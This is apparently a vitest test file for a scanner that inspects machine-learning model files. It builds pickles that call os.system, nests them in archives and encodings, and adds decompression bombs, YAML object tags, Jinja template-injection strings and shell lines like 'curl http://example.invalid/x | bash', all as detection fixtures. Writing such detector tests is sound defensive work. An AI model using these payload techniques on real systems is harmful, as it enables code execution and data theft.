import { deflateSync, gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { callPickle, op, pickle, plainPickle } from '../../testing/forge/pickle.ts';
import { forgeTar } from '../../testing/forge/tar.ts';
import { forgeZip } from '../../testing/forge/zip.ts';
import { inspectTree } from './inspect-tree.ts';
import { memoryTree } from './source.ts';

const bytes = (text: string): Uint8Array => Buffer.from(text, 'utf8');
const json = (value: unknown): Uint8Array => bytes(JSON.stringify(value));
const zip = (name: string, content: Uint8Array | string): Uint8Array => forgeZip({ members: [{ name, content }] });

async function severe(name: string, content: Uint8Array): Promise<string[]> {
  const { inspection } = await inspectTree(memoryTree(name, content));
  return inspection.findings
    .filter(({ severity }) => severity === 'high' || severity === 'critical')
    .map(({ code }) => code);
}

/** A safetensors file of one tensor, with this metadata. */
function safetensors(metadata: Record<string, string>): Uint8Array {
  const tensor = { dtype: 'F32', shape: [1], data_offsets: [0, 4] };
  const header = json({ __metadata__: metadata, w: tensor });
  const length = Buffer.alloc(8);
  length.writeBigUInt64LE(BigInt(header.length));
  return Buffer.concat([length, header, Buffer.alloc(4)]);
}

const evil = callPickle('os', 'system', 'id');
const base64 = (content: Uint8Array | string): string => Buffer.from(content).toString('base64');
const holding = (text: string): Uint8Array => pickle(op.proto(4), op.text(text), op.stop);
const call = 'pickle.dangerous_callable';
const sealed = Uint8Array.of(0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4, 0, 0, 0, 0);

describe('what is packed in what is packed', () => {
  it.each([
    ['a pickle in a gzip in a zip', zip('m.pkl.gz', gzipSync(evil)), call],
    ['a pickle in zlib data in a zip', zip('weights', deflateSync(evil)), call],
    ['a pickle in a tar in a zip', zip('m.tar', forgeTar('m.pkl', evil)), call],
    ['a pickle in a tar in a gzip in a zip', zip('m.tgz', gzipSync(forgeTar('m.pkl', evil))), call],
    ['a pickle in a tar in a tar', forgeTar('m.tar', forgeTar('m.pkl', evil)), call],
    ['a pickle in a gzip in a tar', forgeTar('m.pkl.gz', gzipSync(evil)), call],
    ['an archive that is not looked into, in a zip', zip('m.7z', sealed), 'file.opaque_archive'],
    ['settings in a tar', forgeTar('model_config.yaml', bytes('_target_: os.system\n')), 'settings.dangerous_target'],
  ])('%s', async (_, content, code) => {
    expect(await severe('model.bin', content)).toContain(code);
  });

  it('goes no deeper than genuine files do', async () => {
    let content: Uint8Array = evil;
    for (let depth = 0; depth < 7; depth += 1) content = zip('a', gzipSync(content));
    expect(await severe('model.bin', content)).toContain('archive.nesting');
  });
});

describe('what unpacks to very much', () => {
  const large = gzipSync(Buffer.alloc(4_000_000, 1));
  it('ends where a pickle packs more than is looked into, and keeps what was found', async () => {
    const bombs = Array.from({ length: 20 }, () => op.bytes(large));
    const content = pickle(op.proto(4), op.global('os', 'system'), ...bombs, op.stop);
    expect(await severe('m.pkl', content)).toEqual(expect.arrayContaining([call, 'pickle.opcode_flood']));
  });

  it('ends where the compressed members of an archive do', async () => {
    const members = Array.from({ length: 40 }, (_, at) => ({ name: `${at}.gz`, content: large }));
    expect(await severe('m.bin', forgeZip({ members }))).toContain('archive.limit_exceeded');
  });
});

describe('what a text in a pickle encodes', () => {
  it.each([
    ['a pickle in base64', holding(base64(evil)), call],
    ['a pickle in base64 as bytes', pickle(op.proto(4), op.bytes(base64(evil)), op.stop), call],
    ['a pickle in base64 in a pickle in base64', holding(base64(holding(base64(evil)))), call],
    ['a pickle in hexadecimal digits', holding(Buffer.from(evil).toString('hex')), call],
    ['a pickle of protocol 0 as text', holding("cos\nsystem\n(S'id'\ntR."), call],
    ['a pickle in a gzip', pickle(op.proto(4), op.bytes(gzipSync(evil)), op.stop), call],
    ['an archive in base64', holding(base64(zip('m.pkl', evil))), 'pickle.nested'],
    ['code in base64', holding(base64('import os\nos.system("id")\n')), 'pickle.encoded_code'],
    ['a harmless pickle', pickle(op.proto(4), op.bytes(plainPickle()), op.stop), 'pickle.nested'],
    ['code that is not hidden', holding('import os\nos.system("id")\n'), 'pickle.code_text'],
  ])('%s', async (_, content, code) => {
    expect(await severe('model.pkl', content)).toContain(code);
  });

  it.each([
    ['settings', base64('{"hidden_size": 768, "num_layers": 12}')],
    ['a licence', base64('MIT License\nCopyright (c) 2024')],
    ['a digest', 'deadbeef'.repeat(32)],
    ['words about code', 'The function os.system is not used; see subprocess and eval for more.'],
    ['names', 'backbone.layer1.0.conv1.weight_that_is_long'],
  ])('%s raises no alarm', async (_, text) => {
    expect(await severe('model.pkl', holding(text))).toEqual([]);
  });
});

describe('the description in a safetensors header', () => {
  it.each([
    "import os; os.system('echo')",
    'rm -rf /tmp/test && wget http://example.invalid/script.sh',
    "<script>fetch('http://example.invalid')</script>",
    "exec(base64.b64decode('aWQ='))",
    '\\x48\\x65\\x6c\\x6c\\x6f\\x20\\x57',
    'curl http://example.invalid/x | bash',
    base64('import subprocess\nsubprocess.call(["id"])'),
  ])('%s is told', async (text) => {
    expect(await severe('m.safetensors', safetensors({ info: text }))).toEqual(['safetensors.metadata_code']);
  });

  it('tells an address that is there to be called', async () => {
    const found = await severe('m.safetensors', safetensors({ callback_url: 'http://example.invalid/x' }));
    expect(found).toEqual(['safetensors.metadata_code']);
  });

  it('says nothing of what training tools write', async () => {
    const usual = {
      format: 'pt',
      ss_network_args: '{"conv_dim": "4", "algo": "lora"}',
      ss_tag_frequency: '{"img": {"system": 3, "eval": 2}}',
      'modelspec.implementation': 'https://github.com/example/models',
      'modelspec.hash_sha256': '0x5f8d0a2c9b7e4f1a3c6d8e0b2a4c6e8f0a2c4e6f8a0b2c4d6e8f0a2b4c6d8e0f',
      'modelspec.thumbnail': `data:image/jpeg;base64,${base64('not a picture')}`,
      description: 'Import the model, then evaluate (eval) it. Run os-independent code.',
    };
    expect(await severe('m.safetensors', safetensors(usual))).toEqual([]);
  });
});

describe('settings beside a model', () => {
  it.each([
    ['config.json', json({ config: { debug_command: 'rm -rf /' } }), 'settings.command'],
    ['config.json', json({ api_key: 'sk-1234567890abcdef' }), 'settings.secret'],
    ['config.json', json({ config: { api_key: 'SECRET' } }), 'settings.secret'],
    ['train.yaml', bytes('optimizer:\n  _target_: subprocess.Popen\n  args: [id]\n'), 'settings.dangerous_target'],
    ['hydra.json', json({ _target_: 'builtins.eval', _args_: ['1'] }), 'settings.dangerous_target'],
    ['env.yaml', bytes('!!python/object/apply:os.system ["id"]\n'), 'settings.python_object'],
    ['env.yml', bytes('a: !!python/object/new:subprocess.Popen [["id"]]\n'), 'settings.python_object'],
    ['name.yaml', bytes('x: !!python/name:os.system\n'), 'settings.python_object'],
    ['run.yaml', bytes('setup: curl http://example.invalid/x | sh\n'), 'settings.command'],
  ])('%s', async (name, content, code) => {
    expect(await severe(name, content)).toContain(code);
  });

  it.each([
    ['config.json', json({ model_type: 'bert', auth_token: null, password: '', api_key: '<API_KEY>' })],
    ['train.yaml', bytes('model:\n  _target_: torch.nn.Linear\n  in_features: 3\npassword: <yours>\n')],
    ['dvc.yaml', bytes('stages:\n  train:\n    cmd: python train.py --eval (all)\n')],
    ['tokenizer.json', json({ vocab: { system: 1, eval: 2, 'rm -rf': 3 } })],
  ])('%s with nothing in it raises no alarm', async (name, content) => {
    expect(await severe(name, content)).toEqual([]);
  });
});

describe('templates that put names together', () => {
  it.each([
    "{{ ''['__cla'+'ss__'] }}",
    "{{ ''[['__','class','__']|join] }}",
    "{{ ''['_-class-_'.replace('-','_')] }}",
    "{{ 'X19jbGFzc19f'|b64decode }}",
    '{{ self._TemplateReference__context }}',
    "{% include '/etc/passwd' %}",
    "{%- import 'os' as os %}{{ os.system('id') }}",
  ])('%s', async (template) => {
    expect(await severe('tokenizer_config.json', json({ chat_template: template }))).toContain('template.injection');
  });

  it.each([
    "{{ message['content'].replace('\\n', ' ') }}",
    "{% if messages[0]['role'] == 'system' %}{{ 'I import nothing, I include my self.' }}{% endif %}",
    "{{ '<|' + message['role'] + '|>' ~ eos_token }}",
  ])('%s is plain', async (template) => {
    expect(await severe('tokenizer_config.json', json({ chat_template: template }))).toEqual([]);
  });
});

describe('model formats that are not read', () => {
  it.each([
    ['m.pte', Uint8Array.of(24, 0, 0, 0, 0x45, 0x54, 0x31, 0x32, 0, 0, 0, 0), 'ExecuTorch program'],
    ['m.t7', bytes('\u0004\0\0\0\u0001\0\0\0\u0003\0\0\0V 1\r\0\0\0nn.Sequential'), 'Torch7 object'],
    ['m.msgpack', Buffer.concat([Uint8Array.of(0x81, 0xa6), bytes('params\u0001')]), 'Flax weights in MessagePack'],
  ])('%s is named', async (name, content, kind) => {
    const { inspection } = await inspectTree(memoryTree(name, content));
    expect(inspection).toMatchObject({ format: 'custom', metadata: { kind } });
  });
});
